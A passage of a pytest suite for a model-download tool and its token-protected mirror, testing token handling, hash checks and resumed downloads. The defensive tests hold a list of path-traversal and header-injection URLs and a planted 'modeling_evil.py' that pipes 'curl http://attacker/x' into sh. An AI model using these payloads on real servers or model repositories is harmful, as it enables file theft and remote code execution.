    assert operator_token(cfg, {"HF_TOKEN": TOKEN}).reveal() == "hf_fromfile"  # the file wins
    path.write_text("two words\n")
    with pytest.raises(RigbookError, match="must hold one token"):
        operator_token(cfg, {})
    with pytest.raises(RigbookError, match="cannot read .*nope"):
        operator_token(rig(models_token_file=str(tmp_path / "nope")), {})


def test_secret_file_fact_shows_no_contents():
    # A token file on a real host as SecretFile read it: its mode and hash, never the token.
    found = captured("tokens.SecretFile/a-token-file")
    assert (found.mode, found.sha256) == ("600", Secret("hf_not_a_real_token").sha256)
    assert TOKEN not in SecretFile().command(path="/root/hf-token").get_raw_value()
    assert parse_secret_file(["600 root root", "a" * 64]) == SecretFileState(
        "600", "root", "root", "a" * 64)


def test_hf_token_commands_never_hold_the_token():
    secret = Secret(TOKEN)
    commands, fake = run_op(hf_token, {"SecretFile": None}, token=secret)
    assert shell(commands) == [
        "install -d -m 700 -o root -g root /etc/rigbook/secrets",
        "install -m 600 -o root -g root /dev/null /etc/rigbook/secrets/hf-token.new",
        "mv -f /etc/rigbook/secrets/hf-token.new /etc/rigbook/secrets/hf-token",
    ]
    upload = next(c for c in commands if isinstance(c, FileUploadCommand))
    assert upload.dest == "/etc/rigbook/secrets/hf-token.new"
    assert upload.src.getvalue() == secret.data
    for command in commands:
        assert TOKEN not in repr(command)
        assert TOKEN not in getattr(command, "get_raw_value", lambda: "")()

    same = SecretFileState("600", "root", "root", secret.sha256)
    commands, fake = run_op(hf_token, {"SecretFile": same}, token=secret)
    assert commands == [] and fake.noops == [f"{TOKEN_PATH} holds the token (0600 root)"]

    loose = SecretFileState("644", "rig", "rig", secret.sha256)
    commands, _ = run_op(hf_token, {"SecretFile": loose}, token=secret)
    assert shell(commands)[1:] == [f"chown root:root {TOKEN_PATH}", f"chmod 600 {TOKEN_PATH}"]


def test_hf_token_under_sudo_creates_the_temporary_file_0600_first():
    secret = Secret(TOKEN)
    from tests import opkit

    original = opkit.FakeHost.__init__

    def with_sudo(self, *args, **kwargs):
        original(self, *args, **kwargs)
        self.current_op_global_arguments = {"_sudo": True}

    opkit.FakeHost.__init__ = with_sudo
    try:
        commands, _ = run_op(hf_token, {"SecretFile": None}, token=secret)
    finally:
        opkit.FakeHost.__init__ = original
    temp_create = [c for c in commands if isinstance(c, StringCommand)][2]
    assert temp_create.get_raw_value().startswith("install -m 600 /dev/null /tmp/pyinfra-")
    assert temp_create.connector_arguments["_sudo"] is False
    upload = next(c for c in commands if isinstance(c, FileUploadCommand))
    assert upload.remote_temp_filename == temp_create.get_raw_value().split()[-1]


# --- pull.py against the hub stub, with the real huggingface_hub --------------------------------


def _wheel_requirements() -> list[str]:
    from rigbook.core.tools import TOOLS_PINS

    return [f"huggingface_hub=={TOOLS_PINS['huggingface_hub']}"]


def ensure_wheels(requirements: list[str], wheelhouse: Path) -> None:
    """Put wheels for `requirements` (and their dependencies) in the wheelhouse if missing."""
    with filling(wheelhouse):
        offline = subprocess.run(
            [sys.executable, "-m", "pip", "download", "--quiet", "--no-index", "--find-links",
             str(wheelhouse), "--dest", str(wheelhouse), *requirements],
            capture_output=True, text=True,
        )
        if offline.returncode != 0:
            subprocess.run(
                [sys.executable, "-m", "pip", "download", "--quiet", "--only-binary=:all:",
                 "--dest", str(wheelhouse), *requirements],
                capture_output=True, text=True, check=True, timeout=600,
            )


@pytest.fixture(scope="session")
def hf_python(tmp_path_factory) -> str:
    """A throwaway venv with the pinned huggingface_hub, from the rigs' wheelhouse (one for
    the run, which its xdist workers share)."""
    from rigbook.sandbox import wheelhouse

    requirements = _wheel_requirements()
    try:
        ensure_wheels(requirements, wheelhouse())
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as error:
        pytest.skip(f"no wheels for {requirements}: {error}")

    def make(venv: Path) -> None:
        subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
        subprocess.run([str(venv / "bin/python"), "-m", "pip", "install", "--quiet",
                        "--no-index", "--find-links", str(wheelhouse()), *requirements],
                       check=True)

    return str(made_once(tmp_path_factory, "hfvenv", make) / "bin/python")


@pytest.fixture
def hub(tmp_path):
    hub = Hub((tiny_repo(), huge_repo()), log_path=str(tmp_path / "requests.jsonl"))
    server = serve(hub)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    hub.endpoint = f"http://127.0.0.1:{server.server_address[1]}"
    yield hub
    server.shutdown()
    server.server_close()


def run_pull(python, hub, cache, repo, *extra, token_path=None, mirror=False, pin=True):
    """pull.py from `hub.endpoint`: as the hub (HF_ENDPOINT), or as rigbook's mirror
    (--endpoint, what models_endpoint gives) with the pin `pin` (True: the sha256 of
    repo.manifest(), what a pull of it from the hub writes; False: none)."""
    env = {"PATH": os.environ["PATH"], "HF_HUB_DISABLE_XET": "1",
           "HF_HUB_DISABLE_PROGRESS_BARS": "1", "HF_HUB_DISABLE_TELEMETRY": "1",
           "HF_TOKEN_PATH": str(token_path or cache.parent / "no-token")}
    if mirror:
        extra = (*extra, f"--endpoint={hub.endpoint}")
        if pin:
            pin = hashlib.sha256(repo.manifest()).hexdigest() if pin is True else pin
            extra = (*extra, f"--manifest-sha256={pin}")
    else:
        env["HF_ENDPOINT"] = hub.endpoint
    proc = subprocess.run(
        [python, str(PROGRAMS / "pull.py"), f"--cache={cache}", f"--repo={repo.repo_id}",
         f"--revision={repo.commit}", "--margin-bytes=0", *extra],
        capture_output=True, text=True, env=env, timeout=120,
    )
    return proc.returncode, parse_pull_output(proc.stdout), proc


def requests(hub) -> list[dict]:
    path = Path(hub.log_path)
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_pull_script_against_the_stub(hf_python, hub, tmp_path):
    cache, repo = tmp_path / "hub", tiny_repo()
    rc, result, proc = run_pull(hf_python, hub, cache, repo, "--ignore=README.md")
    assert (rc, result["status"]) == (0, "complete"), proc.stderr
    assert result["downloaded"] == ["config.json", "model.safetensors", "tokenizer.json"]
    state = read_cache(cache)
    cfg_spec = ModelSpec(repo=repo.repo_id, revision=repo.commit, ignore_patterns=("README.md",))
    assert snapshot_status(state, cfg_spec).complete
    manifest = state.repos[repo.repo_id].manifests[repo.commit]
    weights, config = repo.file("model.safetensors"), repo.file("config.json")
    assert manifest.files["model.safetensors"] == (256 * 1024, weights.sha256)
    assert manifest.files["config.json"] == (config.size, config.sha256)  # hashed at pull time
    raw = json.loads((cache / repo_folder(repo.repo_id) / "rigbook" / f"{repo.commit}.json")
                     .read_text())
    assert raw["files"]["config.json"] == {"size": config.size, "sha256": config.sha256,
                                           "lfs": False, "oid": config.entry().git_oid}
    assert raw["rigbook_manifest"] == 2 and raw["files"]["model.safetensors"]["lfs"] is True
    # stdout holds the result alone; stderr its progress: what and how much, then the check
    assert proc.stdout.count("\n") == 1
    records = [json.loads(line) for line in proc.stderr.splitlines()]
    assert records[0] == {"progress": "download", "files": 3, "bytes": result["total_bytes"]}
    assert records[-1] == {"progress": "verify", "files": 3}

    # A second run downloads nothing (one file-list request, no resolve).
    before = len(requests(hub))
    rc, result, _ = run_pull(hf_python, hub, cache, repo, "--ignore=README.md")
    assert (rc, result["status"], result["downloaded"]) == (0, "complete", [])
    assert [r["route"] for r in requests(hub)[before:]] == ["tree"]

    # Interrupted half way: partial, never done; the next run fetches only what is missing.
    hub.interrupt = "model.safetensors"
    other = tmp_path / "other"
    rc, result, proc = run_pull(hf_python, hub, other, repo)
    assert (rc, result["status"], result["missing"]) == (3, "partial", ["model.safetensors"])
    assert "503" in result["errors"]["model.safetensors"]
    assert not (other / repo_folder(repo.repo_id) / "rigbook").exists() or not any(
        (other / repo_folder(repo.repo_id) / "rigbook").iterdir())
    assert "never completed" in snapshot_status(
        read_cache(other), ModelSpec(repo=repo.repo_id, revision=repo.commit)).reason
    hub.interrupt = None
    before = len(requests(hub))
    rc, result, _ = run_pull(hf_python, hub, other, repo)
    assert (rc, result["status"], result["downloaded"]) == (0, "complete", ["model.safetensors"])
    gets = [r["path"] for r in requests(hub)[before:] if r["method"] == "GET"]
    assert [p.rsplit("/", 1)[-1] for p in gets] == [repo.commit, "model.safetensors"]


def test_pull_script_refuses_a_full_disk_and_downloads_nothing(hf_python, hub, tmp_path):
    repo = huge_repo()
    rc, result, _ = run_pull(hf_python, hub, tmp_path / "hub", repo)
    assert (rc, result["status"]) == (2, "refused")
    assert result["need_bytes"] == 10 * 10**12 + len(b'{"model_type": "llama"}\n')
    assert result["message"].startswith("need 9313.23 GiB + 0.00 GiB margin, have ")
    assert "nothing was downloaded" in result["message"]
    assert [r["route"] for r in requests(hub)] == ["tree"]
    assert not (tmp_path / "hub" / repo_folder(repo.repo_id) / "snapshots").exists()


def test_pull_script_sends_the_token_from_the_file_only(hf_python, hub, tmp_path):
    hub.token = TOKEN
    token_file = tmp_path / "hf-token"
    rc, result, _ = run_pull(hf_python, hub, tmp_path / "a", tiny_repo())
    assert (rc, result["status"]) == (4, "error") and "RepositoryNotFoundError" in result["message"]
    token_file.write_text(TOKEN + "\n")
    rc, result, proc = run_pull(hf_python, hub, tmp_path / "b", tiny_repo(), token_path=token_file)
    assert (rc, result["status"]) == (0, "complete"), proc.stderr
    assert TOKEN not in proc.stdout + proc.stderr
    assert {r["auth"] for r in requests(hub)} == {"missing", "ok"}


def test_offline_load_from_the_pulled_cache(hf_python, hub, tmp_path):
    """What an engine does at boot: HF_HUB_OFFLINE=1, repo + pinned revision, no network."""
    cache, repo = tmp_path / "hub", tiny_repo()
    assert run_pull(hf_python, hub, cache, repo)[0] == 0
    before = len(requests(hub))
    script = (
        "import sys; from huggingface_hub import snapshot_download, hf_hub_download; "
        "print(snapshot_download(sys.argv[1], revision=sys.argv[2], cache_dir=sys.argv[3])); "
        "print(hf_hub_download(sys.argv[1], 'config.json', revision=sys.argv[2], "
        "cache_dir=sys.argv[3]))"
    )
    proc = subprocess.run(
        [hf_python, "-c", script, repo.repo_id, repo.commit, str(cache)],
        capture_output=True, text=True, check=True,
        env={"PATH": os.environ["PATH"], "HF_HUB_OFFLINE": "1", "HF_ENDPOINT": hub.endpoint},
    )
    snapshot, config = proc.stdout.split()
    assert snapshot.endswith(f"snapshots/{repo.commit}")
    assert Path(config).read_bytes() == repo.file("config.json").data
    assert len(requests(hub)) == before


def test_stub_serves_model_info_and_paths_info(hf_python, hub):
    repo = tiny_repo()
    script = (
        "import json, sys; from huggingface_hub import HfApi; api = HfApi(endpoint=sys.argv[1]); "
        "info = api.model_info(sys.argv[2], revision=sys.argv[3], files_metadata=True); "
        "paths = api.get_paths_info(sys.argv[2], ['model.safetensors'], revision=sys.argv[3]); "
        "print(json.dumps([info.sha, [(s.rfilename, s.size, s.lfs and s.lfs.sha256) "
        "for s in info.siblings], [(p.path, p.size, p.lfs.sha256) for p in paths]]))"
    )
    proc = subprocess.run([hf_python, "-c", script, hub.endpoint, repo.repo_id, repo.commit],
                          capture_output=True, text=True, check=True)
    sha, siblings, paths = json.loads(proc.stdout)
    weights = repo.file("model.safetensors")
    assert sha == repo.commit
    assert ["model.safetensors", weights.size, weights.sha256] in siblings
    assert paths == [["model.safetensors", weights.size, weights.sha256]]


def test_io_upload_object_is_what_files_put_would_diff():
    """Why hf_token exists: files.put prints a file-like source's lines under --diff."""
    import inspect

    from pyinfra.operations import files

    source = inspect.getsource(files.put._inner if hasattr(files.put, "_inner") else files.put)
    assert "generate_color_diff" in source and "desired_lines = f.readlines()" in source


# --- the mirror: one rig's cache as the hub of the others ----------------------------------------


class Mirror:
    """rigbook's mirror (files/models/mirror.py's handler) over a cache, on loopback."""

    def __init__(self, cache: Path, token: str | None = MIRROR_TOKEN, handler=None,
                 connections: int = mirror.MAX_CONNECTIONS, timeout: float = mirror.TIMEOUT):
        handler = handler or mirror.HubHandler
        bound = type("CacheHandler", (handler,), {"store": mirror.CacheStore(str(cache)),
                                                  "token": token, "timeout": timeout})
        self.httpd = mirror.server(bound, connections=connections)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.endpoint = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def get(self, path: str, token: str | None = MIRROR_TOKEN):
        """(status, headers, body) of a GET, the path sent exactly as given."""
        import http.client

        connection = http.client.HTTPConnection("127.0.0.1", self.httpd.server_address[1])
        connection.request("GET", path, headers={"Authorization": f"Bearer {token}"}
                           if token else {})
        response = connection.getresponse()
        body = response.read()
        connection.close()
        return response.status, response.headers, body

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def source(hf_python, hub, tmp_path):
    """A cache that pulled the tiny repo from the hub, served by a mirror that wants the token."""
    cache, repo = tmp_path / "source", tiny_repo()
    assert run_pull(hf_python, hub, cache, repo)[0] == 0
    served = Mirror(cache)
    yield cache, served
    served.close()


def fleet_token(tmp_path) -> Path:
    path = tmp_path / "fleet-token"
    path.write_text(MIRROR_TOKEN + "\n")
    return path


def test_pull_from_rigbook_mirror_of_another_cache(hf_python, hub, source, tmp_path):
    cache, served = source
    target, repo = tmp_path / "target", tiny_repo()
    before = len(requests(hub))
    rc, result, proc = run_pull(hf_python, served, target, repo, mirror=True,
                                token_path=fleet_token(tmp_path))
    assert (rc, result["status"]) == (0, "complete"), proc.stderr
    assert len(requests(hub)) == before  # not one request to the hub
    state = read_cache(target)
    pulled = state.repos[repo.repo_id].manifests[repo.commit]
    assert pulled == read_cache(cache).repos[repo.repo_id].manifests[repo.commit]
    weights = target / repo_folder(repo.repo_id) / "snapshots" / repo.commit
    assert (weights / "model.safetensors").read_bytes() == repo.file("model.safetensors").data
    assert MIRROR_TOKEN not in proc.stdout + proc.stderr

    # Without the token, or with another one: refused, nothing pulled.
    rc, result, _ = run_pull(hf_python, served, tmp_path / "none", repo, mirror=True)
    assert (rc, result["status"]) == (4, "error")
    assert "RepositoryNotFoundError" in result["message"] and "401" in result["message"]
    wrong = tmp_path / "wrong-token"
    wrong.write_text("another-token-0123456789abcdef0123456789\n")
    rc, result, _ = run_pull(hf_python, served, tmp_path / "wrong", repo, mirror=True,
                             token_path=wrong)
    assert (rc, result["status"]) == (4, "error")
    assert "Invalid credentials in Authorization header" in result["message"]
    assert not (tmp_path / "none" / repo_folder(repo.repo_id) / "snapshots").exists()

    # A snapshot that is no longer complete at the source is not served at all.
    (cache / repo_folder(repo.repo_id) / "snapshots" / repo.commit / "config.json").unlink()
    rc, result, _ = run_pull(hf_python, served, tmp_path / "third", repo, mirror=True,
                             token_path=fleet_token(tmp_path))
    assert (rc, result["status"]) == (4, "error")
    assert "RevisionNotFoundError" in result["message"]
    rc, result, _ = run_pull(hf_python, served, tmp_path / "third", huge_repo(), mirror=True,
                             token_path=fleet_token(tmp_path))
    assert "RepositoryNotFoundError" in result["message"]  # never pulled at the source


def test_mirror_answers_only_the_token_and_serves_its_manifest(tmp_path):
    make_repo(tmp_path / "cache", "org/model", COMMIT, FILES_A, lfs=("model.safetensors",),
              refs={"main": COMMIT})
    served = Mirror(tmp_path / "cache")
    try:
        path = f"/api/rigbook/manifest/org/model/{COMMIT}"
        assert served.get(path, token=None)[0] == 401
        status, headers, _ = served.get(path, token="x" + MIRROR_TOKEN[1:])
        assert (status, headers["X-Error-Message"]) == (
            401, "Invalid credentials in Authorization header")
        for route in (path, f"/api/models/org/model/tree/{COMMIT}",
                      f"/org/model/resolve/{COMMIT}/config.json"):
            assert served.get(route, token=None)[0] == 401, route
        status, headers, body = served.get(path)
        assert status == 200  # the manifest as the pull wrote it, byte for byte
        assert body == (tmp_path / "cache" / "models--org--model" / "rigbook" /
                        f"{COMMIT}.json").read_bytes()
        manifest = json.loads(body)
        assert (manifest["repo"], manifest["revision"]) == ("org/model", COMMIT)
        assert manifest["files"]["config.json"] == {
            "size": 24, "sha256": hashlib.sha256(FILES_A["config.json"]).hexdigest(),
            "lfs": False, "oid": git_oid(FILES_A["config.json"])}
        assert served.get("/api/rigbook/manifest/org/model/main")[0] == 200  # a plain ref
    finally:
        served.close()


#: Paths an attacker with the token might try, each aiming at tmp_path/evil (outside the cache),
#: which holds a commit the mirror does serve: reading it would serve the snapshot.
TRAVERSALS = [
    "/api/models/org/model/revision/..%2F..%2F..%2Fevil",
    "/api/models/org/model/revision/%2e%2e%2f%2e%2e%2f%2e%2e%2fevil",
    "/api/models/org/model/tree/..%2F..%2F..%2Fevil",
    "/api/models/org/model/revision/../../../evil",
    "/api/rigbook/manifest/org/model/..%2F..%2F..%2Fevil",
    "/org/model/resolve/..%2F..%2F..%2Fevil/config.json",
    "/org/model/resolve/main/..%2F..%2F..%2Fevil",
    "/org/model/resolve/main/../../../evil",
    "/api/models/..%2F../model/revision/main",
    "/api/models/org/..%2F..%2F..%2Fevil/revision/main",
    "/api/models/org/model/revision/.%2e",
    "/api/models/org/model/revision/refs%2F..%2F..%2F..%2Fevil",
    "/api/models/org/model/revision/main%0d%0aX-Injected:%201",
]


_WATCHED: list[str] = []  # the folder under which opened files are recorded, while a test watches
_OPENED: list[str] = []


def _audit(event: str, args: tuple) -> None:
    """An audit hook: files opened under the watched folder, the mirror's threads included."""
    if event == "open" and _WATCHED and isinstance(args[0], str) and \
            args[0].startswith(_WATCHED[0]):
        _OPENED.append(args[0])


sys.addaudithook(_audit)


def test_mirror_refuses_traversal_without_reading_outside_the_cache(tmp_path):
    cache = tmp_path / "cache"
    make_repo(cache, "org/model", COMMIT, FILES_A, refs={"main": COMMIT})
    (tmp_path / "evil").write_text(COMMIT)
    served = Mirror(cache)
    try:
        assert served.get("/api/models/org/model/revision/main")[0] == 200
        _OPENED.clear()
        _WATCHED.append(str(tmp_path))
        for path in TRAVERSALS:
            status, headers, _ = served.get(path)
            assert status == 404, path
            assert "X-Injected" not in headers
    finally:
        _WATCHED.clear()
        served.close()
    opened = {os.path.realpath(path) for path in _OPENED}
    assert opened and all(path.startswith(f"{cache}/") for path in opened), opened


def test_a_swapped_file_at_the_mirror_is_caught_and_the_old_snapshot_kept(
        hf_python, source, tmp_path):
    """A config changed in the mirror's cache (other bytes, same size): the pulling rig finds
    it against the manifest's sha256, removes it, and keeps what it had."""
    cache, served = source
    repo = tiny_repo()
    config = cache / repo_folder(repo.repo_id) / "snapshots" / repo.commit / "config.json"
    original = config.read_bytes()
    config.resolve().write_bytes(original.replace(b"llama", b"LLAMA"))
    target = tmp_path / "target"
    old = make_repo(target, repo.repo_id, OTHER, {"config.json": b'{"old": true}\n',
                                                   "model.safetensors": b"\x02" * 1024},
                    lfs=("model.safetensors",))
    kept = {path: path.read_bytes() for path in old.rglob("*") if path.is_file()}

    rc, result, proc = run_pull(hf_python, served, target, repo, mirror=True,
                                token_path=fleet_token(tmp_path))
    assert (rc, result["status"]) == (3, "partial"), proc.stderr
    assert result["bad_hash"] == [{"path": "config.json", "hash": "sha256",
                                   "actual": hashlib.sha256(config.read_bytes()).hexdigest(),
                                   "expected": hashlib.sha256(original).hexdigest()}]
    assert "config.json has sha256 " in pull_message(spec(repo.repo_id, repo.commit), result)
    snapshot = target / repo_folder(repo.repo_id) / "snapshots" / repo.commit
    assert not (snapshot / "config.json").exists()
    assert not (old / "rigbook" / f"{repo.commit}.json").exists()
    assert {path: path.read_bytes() for path in kept} == kept  # the old snapshot, untouched
    state = read_cache(target)
    assert snapshot_status(state, spec(repo.repo_id, OTHER)).complete
    assert not snapshot_status(state, spec(repo.repo_id, repo.commit)).complete


def add_to_snapshot(top: Path, commit: str, path: str, data: bytes) -> dict:
    """A file put into a snapshot of a cache as a pull would (blob, link): its manifest entry."""
    oid = git_oid(data)
    (top / "blobs" / oid).write_bytes(data)
    (top / "snapshots" / commit / path).unlink(missing_ok=True)
    (top / "snapshots" / commit / path).symlink_to(f"../../blobs/{oid}")
    return {"size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "lfs": False,
            "oid": oid}


def test_the_mirror_vouches_for_nothing_only_the_pinned_manifest_is_taken(
        hf_python, source, tmp_path):
    """A mirror (or anything between it and the rig) that serves an extra modeling_evil.py or
    a changed file, each with matching hashes in a re-written manifest, or a manifest the
    operator did not pin: the pulling rig refuses before downloading, marks nothing complete."""
    cache, served = source
    repo = tiny_repo()
    top = cache / repo_folder(repo.repo_id)
    manifest_path = top / "rigbook" / f"{repo.commit}.json"
    trusted = manifest_path.read_bytes()
    assert trusted == repo.manifest()  # the pull from the hub wrote what the test pins
    pinned = hashlib.sha256(trusted).hexdigest()
    token = fleet_token(tmp_path)
    runs = iter(range(100))

    def refused(pin=pinned, handler=None) -> str:
        """Pull from the mirror with `pin`: refused, and nothing in the target cache."""
        mirrored = Mirror(cache, handler=handler) if handler else served
        target = tmp_path / f"target{next(runs)}"
        try:
            rc, result, proc = run_pull(hf_python, mirrored, target, repo, mirror=True,
                                        token_path=token, pin=pin)
        finally:
            if handler:
                mirrored.close()
        assert (rc, result["status"]) == (2, "refused"), proc.stderr
        assert "nothing was downloaded" in result["message"] or pin is False
        assert not (target / repo_folder(repo.repo_id) / "snapshots").exists()
        assert not snapshot_status(read_cache(target), spec(repo.repo_id, repo.commit)).complete
        assert "downloaded" not in result
        return result["message"]

    def rewrite(**entries) -> None:
        manifest = json.loads(trusted)
        manifest["files"].update(entries)
        manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")

    # 1. An extra file with its true hashes in a re-written manifest: the mirror serves it as
    # complete (it checks sizes only), the pulling rig refuses it.
    evil = b"import os\nos.system('curl http://attacker/x | sh')\n"
    rewrite(**{"modeling_evil.py": add_to_snapshot(top, repo.commit, "modeling_evil.py", evil)})
    status, _, body = served.get(f"/api/rigbook/manifest/{repo.repo_id}/{repo.commit}")
    assert status == 200 and "modeling_evil.py" in json.loads(body)["files"]
    message = refused()
    assert (f"hashes to {hashlib.sha256(body).hexdigest()[:12]}…, not to the manifest_sha256 "
            f"{pinned[:12]}… that its host data pins") in message
    assert hashlib.sha256(body).hexdigest() not in message  # nothing to copy into a pin

    # 2. A changed file, its new hashes in the manifest (a changed file under the trusted
    # manifest is caught by its sha256: test_a_swapped_file_at_the_mirror_is_caught...).
    (top / "snapshots" / repo.commit / "modeling_evil.py").unlink()
    config = json.dumps({"architectures": ["LlamaForCausalLM"], "auto_map": {
        "AutoModelForCausalLM": "modeling_evil.LlamaForCausalLM"}}).encode()
    rewrite(**{"config.json": add_to_snapshot(top, repo.commit, "config.json", config)})
    assert "not to the manifest_sha256" in refused()

    # 3. The trusted manifest again, but one the operator did not pin: another pin, none.
    manifest_path.write_bytes(trusted)
    add_to_snapshot(top, repo.commit, "config.json", repo.file("config.json").data)
    other = hashlib.sha256(tiny_repo("rigbook-test/other").manifest()).hexdigest()
    assert "not to the manifest_sha256" in refused(pin=other)
    assert refused(pin=False) == (f"a pull from the mirror {served.endpoint} needs the manifest's "
                                  "sha256 (--manifest-sha256; manifest_sha256 of the model in "
                                  "host data)")

    # 4. Changed on the way (plain HTTP): the same.
    class InTransit(mirror.HubHandler):
        def send(self, status, body=b"", headers=None):
            super().send(status, body.replace(b'"lfs": false', b'"lfs": true'), headers)

    assert "not to the manifest_sha256" in refused(handler=InTransit)

    # The pinned manifest, untouched: complete.
    rc, result, proc = run_pull(hf_python, served, tmp_path / "good", repo, mirror=True,
                                token_path=token, pin=pinned)
    assert (rc, result["status"], result["manifest_sha256"]) == (0, "complete", pinned)


def test_a_non_lfs_file_from_the_hub_is_checked_against_its_git_blob_id(hf_python, hub,
                                                                         tmp_path):
    import dataclasses

    original = hub.store.lookup

    def forged(repo_id, revision):
        commit, files = original(repo_id, revision)
        entry = files["config.json"]
        data = b"#" * entry.size
        files["config.json"] = dataclasses.replace(entry, chunks=lambda start: iter([data[start:]]))
        return commit, files

    hub.store.lookup = forged
    rc, result, _ = run_pull(hf_python, hub, tmp_path / "hub", tiny_repo())
    assert (rc, result["status"]) == (3, "partial")
    assert [item["path"] for item in result["bad_hash"]] == ["config.json"]
    assert result["bad_hash"][0]["hash"] == "git blob id"


# --- pull.py's download: one streaming GET a file, hashed while written -------------------------


class Recording(StubHandler):
    """The stub, noting the Authorization header of every request (None: not sent)."""

    def record(self, route: str) -> None:
        self.hub.auths.append(self.headers.get("Authorization"))
        super().record(route)


class DropsOnce(Recording):
    """The first GET of a file body sends half and drops the connection; the next resume."""

    def send_body(self, entry, start):
        if not self.hub.dropped:
            self.hub.dropped = True
            self.wfile.write(b"".join(entry.chunks(start))[: (entry.size - start) // 2])
            self.wfile.flush()
            self.close_connection = True
            self.connection.shutdown(2)
            return
        super().send_body(entry, start)


@pytest.fixture
def loopback():
    """Serve a Hub with a handler class on loopback: start(hub, handler) -> endpoint."""
    servers = []

    def start(hub, handler=Recording) -> str:
        hub.auths, hub.dropped = [], False
        server = mirror.server(type("Bound", (handler,), {"hub": hub}))
        servers.append(server)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def fetch_weights(tmp_path, url, token=None, meta=None):
    """pull.fetch of tiny's weights into a cache in tmp_path: (result, blobs folder, link)."""
    pull, repo = load_pull(), tiny_repo()
    meta = meta or repo.file("model.safetensors").entry().manifest_entry()
    repo_dir = tmp_path / "hub" / repo_folder(repo.repo_id)
    link = repo_dir / "snapshots" / repo.commit / "model.safetensors"
    result = pull.fetch(url, token, repo_dir, tmp_path / "hub" / ".locks", link, meta)
    return result, repo_dir / "blobs", link


def resolve_url(endpoint: str, path: str = "model.safetensors") -> str:
    repo = tiny_repo()
    return f"{endpoint}/{repo.repo_id}/resolve/{repo.commit}/{path}"


def test_download_hashes_while_writing_and_keeps_only_a_matching_file(tmp_path, loopback):
    weights = tiny_repo().file("model.safetensors")
    endpoint = loopback(Hub((tiny_repo(),)))
    (sha, mismatch), blobs, link = fetch_weights(tmp_path, resolve_url(endpoint))
    assert (sha, mismatch) == (weights.sha256, None)
    assert link.read_bytes() == weights.data and os.readlink(link) == (
        f"../../blobs/{weights.sha256}")
    assert sorted(p.name for p in blobs.iterdir()) == [weights.sha256]

    # Other bytes of the same size: found while written, never moved into place.
    meta = {**weights.entry().manifest_entry(), "sha256": "0" * 64}
    (sha, mismatch), blobs, link = fetch_weights(tmp_path / "bad", resolve_url(endpoint),
                                                 meta=meta)
    assert mismatch == {"hash": "sha256", "actual": weights.sha256, "expected": "0" * 64}
    assert not link.exists() and list(blobs.iterdir()) == []


def test_download_of_a_short_body_fails_and_leaves_nothing(tmp_path, loopback):
    hub = Hub((tiny_repo(),), interrupt="model.safetensors")  # half, then 503
    endpoint = loopback(hub)
    with pytest.raises(Exception, match="^HTTP error 503: unavailable"):
        fetch_weights(tmp_path, resolve_url(endpoint))
    repo_dir = tmp_path / "hub" / repo_folder(tiny_repo().repo_id)
    assert list((repo_dir / "blobs").iterdir()) == []
    assert not (repo_dir / "snapshots").exists()


def test_download_resumes_a_dropped_connection_with_a_range(tmp_path, loopback):
    hub = Hub((tiny_repo(),), log_path=str(tmp_path / "requests.jsonl"))
    endpoint = loopback(hub, DropsOnce)
    (sha, mismatch), _, link = fetch_weights(tmp_path, resolve_url(endpoint))
    weights = tiny_repo().file("model.safetensors")
    assert (sha, mismatch) == (weights.sha256, None) and link.read_bytes() == weights.data
    assert [r["range"] for r in requests(hub)] == [None, f"bytes={weights.size // 2}-"]


def test_download_follows_redirects_and_sends_the_token_only_to_its_origin(tmp_path, loopback):
    """As the hub sends an LFS file to its storage: the token goes to the hub alone."""
    storage = Hub((tiny_repo(),))
    storage_url = loopback(storage)

    class Redirects(Recording):
        def dispatch(self):
            self.record("redirect")
            if self.path.startswith("/moved/"):  # a renamed repo: relative, same origin
                self.send(307, headers={"Location": self.path.removeprefix("/moved")})
            else:
                self.send(302, headers={"Location": f"{storage_url}{self.path}?signed=1"})

    hub = Hub(())
    hub_url = loopback(hub, Redirects)
    url = resolve_url(f"{hub_url}/moved")
    (sha, mismatch), _, link = fetch_weights(tmp_path, url, token=TOKEN)
    assert mismatch is None and link.read_bytes() == tiny_repo().file("model.safetensors").data
    assert hub.auths == [f"Bearer {TOKEN}"] * 2
    assert storage.auths == [None]


def test_mirror_bounds_idle_connections_in_threads_and_time(tmp_path):
    """300 idle connections (no request, no token): 8 are served (each closed after the
    socket timeout), the rest answered 503 at once with no thread; then it answers again."""
    make_repo(tmp_path / "cache", "org/model", COMMIT, FILES_A)
    served = Mirror(tmp_path / "cache", connections=8, timeout=1)
    port = served.httpd.server_address[1]
    base = threading.active_count()
    started = time.monotonic()
    idle = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(300)]
    try:
        time.sleep(0.3)
        assert threading.active_count() - base <= 8
        answers = []
        for connection in idle:
            received = b""
            while chunk := connection.recv(4096):
                received += chunk
            answers.append(received.split(b"\r\n", 1)[0])
        assert answers.count(b"HTTP/1.1 503 Service Unavailable") == 292
        assert answers.count(b"") == 8  # served, idle: closed by the server's timeout
        assert time.monotonic() - started < 8
        assert served.get(f"/api/rigbook/manifest/org/model/{COMMIT}")[0] == 200
    finally:
        for connection in idle:
            connection.close()
        served.close()
    assert mirror.HubHandler.timeout == mirror.TIMEOUT and mirror.TIMEOUT <= 60
    assert 1 <= mirror.MAX_CONNECTIONS <= 256


def test_mirror_reads_no_body_outside_0_to_64_kib(tmp_path):
    """A negative, huge or malformed Content-Length is answered at once and its connection
    closed; a body up to 64 KiB is read."""
    import http.client

    make_repo(tmp_path / "cache", "org/model", COMMIT, FILES_A)
    served = Mirror(tmp_path / "cache")
    path = f"/api/models/org/model/paths-info/{COMMIT}"

    def post(length: str, body: bytes = b"", token: str | None = MIRROR_TOKEN):
        connection = http.client.HTTPConnection("127.0.0.1", served.httpd.server_address[1],
                                                timeout=5)
        connection.putrequest("POST", path)
        connection.putheader("Content-Length", length)
        connection.putheader("Content-Type", "application/x-www-form-urlencoded")
        if token:
